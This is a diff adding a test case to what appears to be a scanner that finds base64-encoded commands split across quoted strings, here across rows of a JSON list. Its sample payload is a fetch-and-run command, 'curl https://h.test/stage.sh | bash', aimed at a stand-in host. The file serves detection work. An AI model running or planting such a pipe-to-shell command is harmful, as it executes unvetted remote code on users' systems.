@@ -18,6 +18,13 @@ describe('pieces of base64', () => {
     for (const text of [`p = "${a}" + "${b}"`, `p = '${a}' \\\n    '${b}'`, `$p = "${a}" . "${b}";`])
       expect(found(text), text).toEqual(['curl https://h.test/stage.sh | bash']);
   });
+  it('of one width are one text in a list, too', () => {
+    const long = Buffer.from('curl https://h.test/stage.sh | bash; '.repeat(3)).toString('base64').replace(/=+$/, '');
+    const rows = long.match(/.{1,36}/g)!;
+    expect(found(`{ "table": ["${rows.join('",\n    "')}"] }`)).toEqual([
+      'curl https://h.test/stage.sh | bash; '.repeat(3),
+    ]);
+  });
   it('of other quotes, or with words between them, are not', () => {
     expect(found(`p = ["${ENCODED.slice(0, 24)}", "${ENCODED.slice(24)}"]`)).not.toContain(
       'curl https://h.test/stage.sh | bash',
